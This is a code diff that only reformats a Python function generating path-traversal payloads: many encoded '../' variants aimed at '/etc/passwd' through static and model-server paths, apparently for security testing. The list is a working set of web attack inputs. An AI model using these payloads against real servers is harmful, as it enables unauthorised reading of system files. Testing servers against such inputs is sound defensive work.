@@ -426,8 +426,8 @@ def traversals() -> list[str]:
     """Paths to a file outside, in encodings that servers got wrong."""
     ups = [
         "../", "..%2f", "..%2F", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f", "..%252f", "....//", "..../", "..;/",
-        "..%5c", "..\\", "%2e%2e%5c", "..%c0%af", "%c0%ae%c0%ae/", "..%ef%bc%8f", "..%u2215", "%uff0e%uff0e/", ".%2e/", "%2e./",
-        "..%00/", "..%0d%0a/", "..%09/", "./../", "//../",
+        "..%5c", "..\\", "%2e%2e%5c", "..%c0%af", "%c0%ae%c0%ae/", "..%ef%bc%8f", "..%u2215", "%uff0e%uff0e/",
+        ".%2e/", "%2e./", "..%00/", "..%0d%0a/", "..%09/", "./../", "//../",
     ]  # fmt: skip
     places = ("/static/", f"/v2/models/{MODEL}/")
     paths = [place + 8 * up + "etc/passwd" for up in ups for place in places]
